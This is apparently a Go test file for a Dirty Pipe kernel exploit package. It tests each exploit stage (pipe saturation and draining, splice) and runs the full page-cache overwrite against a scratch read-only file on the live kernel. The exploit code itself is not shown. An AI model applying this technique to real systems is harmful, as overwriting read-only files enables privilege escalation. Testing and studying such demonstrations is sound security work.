// Copyright 2026 The dirtypipe Authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package linuxhost

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/dirtypipe/dirtypipe/pkg/exploit"
	"github.com/dirtypipe/dirtypipe/pkg/kernelcheck"
)

const content = "Hello, World! This is a test file.\n"

// chdir changes the working directory for the duration of the test, like
// testing.T.Chdir (Go 1.24+).
func chdir(t *testing.T, dir string) {
	t.Helper()
	wd, err := os.Getwd()
	if err != nil {
		t.Fatalf("Getwd: %v", err)
	}
	if err := os.Chdir(dir); err != nil {
		t.Fatalf("Chdir(%q): %v", dir, err)
	}
	t.Cleanup(func() {
		if err := os.Chdir(wd); err != nil {
			t.Fatalf("Chdir(%q): %v", wd, err)
		}
	})
}

func writeTarget(t *testing.T, data string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "target_file")
	if err := os.WriteFile(path, []byte(data), 0o444); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	return path
}

// newDriver returns a driver with the target mapped, or skips the test if the
// fixed address is taken in this process.
func newDriver(t *testing.T, path string) *exploit.Driver {
	t.Helper()
	if os.Getpagesize() != exploit.PageSize {
		t.Skipf("page size is %d", os.Getpagesize())
	}
	d := exploit.New(Host{}, exploit.Options{Out: &bytes.Buffer{}})
	t.Cleanup(func() { d.Close() })
	if err := d.PrepareTarget(context.Background(), path); err != nil {
		if errors.Is(err, exploit.ErrMappingPlacement) {
			t.Skipf("address %#x unavailable: %v", exploit.MappingAddress, err)
		}
		t.Fatalf("PrepareTarget: %v", err)
	}
	return d
}

func TestMappingFidelity(t *testing.T) {
	d := newDriver(t, writeTarget(t, content))
	m := d.Mapping()
	if got := m.Addr(); got != exploit.MappingAddress {
		t.Errorf("Addr: got %#x, want %#x", got, exploit.MappingAddress)
	}
	if got := len(m.Bytes()); got != exploit.PageSize {
		t.Errorf("mapping length: got %d, want %d", got, exploit.PageSize)
	}
	if got := exploit.MappingString(m); got != content {
		t.Errorf("mapping: got %q, want %q", got, content)
	}
}

func TestMappingRelease(t *testing.T) {
	path := writeTarget(t, content)
	fd, err := Host{}.OpenReadOnly(path)
	if err != nil {
		t.Fatalf("OpenReadOnly: %v", err)
	}
	defer unix.Close(fd)

	// No hint: the kernel picks the address.
	m, err := Host{}.MapShared(fd, 0, exploit.PageSize)
	if err != nil {
		t.Fatalf("MapShared: %v", err)
	}
	if m.Addr() == 0 {
		t.Errorf("Addr: got 0")
	}
	if err := m.Release(); err != nil {
		t.Fatalf("Release: %v", err)
	}
	if err := m.Release(); err != unix.EINVAL {
		t.Errorf("second Release: got %v, want %v", err, unix.EINVAL)
	}
	if m.Bytes() != nil {
		t.Errorf("Bytes after Release: got %d bytes, want nil", len(m.Bytes()))
	}
}

func TestPipeCapacity(t *testing.T) {
	h := Host{}
	r, w, err := h.Pipe()
	if err != nil {
		t.Fatalf("Pipe: %v", err)
	}
	defer h.Close(r)
	defer h.Close(w)

	got, err := h.SetPipeSize(w, exploit.PipeCapacity)
	if err != nil || got != exploit.PipeCapacity {
		t.Fatalf("SetPipeSize: got (%d, %v), wanted (%d, nil)", got, err, exploit.PipeCapacity)
	}
	if got, err := h.PipeSize(r); err != nil || got != exploit.PipeCapacity {
		t.Errorf("PipeSize: got (%d, %v), wanted (%d, nil)", got, err, exploit.PipeCapacity)
	}
	if err := h.SetNonblock(w, true); err != nil {
		t.Fatalf("SetNonblock: %v", err)
	}
	n, err := h.Write(w, make([]byte, exploit.PipeCapacity+1))
	if err != nil || n != exploit.PipeCapacity {
		t.Errorf("Write: got (%d, %v), wanted (%d, nil)", n, err, exploit.PipeCapacity)
	}
	if n, err := h.Write(w, []byte{1}); err != unix.EAGAIN {
		t.Errorf("Write to full pipe: got (%d, %v), wanted EAGAIN", n, err)
	}
	if got, err := h.Buffered(r); err != nil || got != exploit.PipeCapacity {
		t.Errorf("Buffered: got (%d, %v), wanted (%d, nil)", got, err, exploit.PipeCapacity)
	}
}

func TestDrainCompleteness(t *testing.T) {
	d := newDriver(t, writeTarget(t, content))
	ctx := context.Background()
	if err := d.CreateAndShrinkPipe(ctx); err != nil {
		t.Fatalf("CreateAndShrinkPipe: %v", err)
	}
	if err := d.SaturateAndDrain(ctx); err != nil {
		t.Fatalf("SaturateAndDrain: %v", err)
	}
	r, _ := d.PipeFDs()
	if n, err := (Host{}).Buffered(r); n != 0 || err != nil {
		t.Errorf("Buffered: got (%d, %v), wanted (0, nil)", n, err)
	}
}

func TestSplice(t *testing.T) {
	path := writeTarget(t, content)
	h := Host{}
	fd, err := h.OpenReadOnly(path)
	if err != nil {
		t.Fatalf("OpenReadOnly: %v", err)
	}
	defer h.Close(fd)
	r, w, err := h.Pipe()
	if err != nil {
		t.Fatalf("Pipe: %v", err)
	}
	defer h.Close(r)
	defer h.Close(w)

	var off int64
	n, err := h.Splice(fd, &off, w, exploit.SpliceLength)
	if err != nil || n != exploit.SpliceLength {
		t.Fatalf("Splice: got (%d, %v), wanted (%d, nil)", n, err, exploit.SpliceLength)
	}
	if off != exploit.SpliceLength {
		t.Errorf("offset: got %d, want %d", off, exploit.SpliceLength)
	}
	buf := make([]byte, 16)
	n, err = h.Read(r, buf)
	if err != nil {
		t.Fatalf("Read: %v", err)
	}
	if got, want := string(buf[:n]), content[:exploit.SpliceLength]; got != want {
		t.Errorf("Read: got %q, want %q", got, want)
	}
}

// TestRun runs the whole demonstration against the running kernel. The
// target is a scratch file; the page-cache change is dropped with it.
func TestRun(t *testing.T) {
	report, err := kernelcheck.Check()
	if err != nil {
		t.Fatalf("Check: %v", err)
	}
	chdir(t, t.TempDir())
	if err := os.WriteFile(exploit.TargetPath, []byte(content), 0o444); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}

	var out bytes.Buffer
	d := exploit.New(Host{}, exploit.Options{Out: &out})
	defer d.Close()
	err = d.Run(context.Background())
	switch {
	case errors.Is(err, exploit.ErrMappingPlacement):
		t.Skipf("address %#x unavailable: %v", exploit.MappingAddress, err)
	case errors.Is(err, unix.EAGAIN) && d.State() == exploit.Spliced:
		// The payload went into a fresh slot: the kernel is fixed.
		if report.Status == kernelcheck.Vulnerable {
			t.Skipf("kernel %s carries a backported fix", report.Release)
		}
		if got := exploit.ExitCode(err); got != exploit.CodeIO {
			t.Errorf("ExitCode: got %d, want %d", got, exploit.CodeIO)
		}
		if got := exploit.MappingString(d.Mapping()); got != content {
			t.Errorf("page cache changed on a fixed kernel: got %q", got)
		}
		return
	case err != nil:
		t.Fatalf("Run: %v", err)
	}

	if report.Status != kernelcheck.Vulnerable {
		t.Errorf("page cache corrupted on %s kernel %s", report.Status, report.Release)
	}
	want := "Hellopwned by user is a test file.\n"
	if got := exploit.MappingString(d.Mapping()); got != want {
		t.Errorf("mapping: got %q, want %q", got, want)
	}
	data, err := os.ReadFile(exploit.TargetPath)
	if err != nil {
		t.Fatalf("ReadFile: %v", err)
	}
	if got := string(data); got != want {
		t.Errorf("read(2) of target: got %q, want %q", got, want)
	}
}
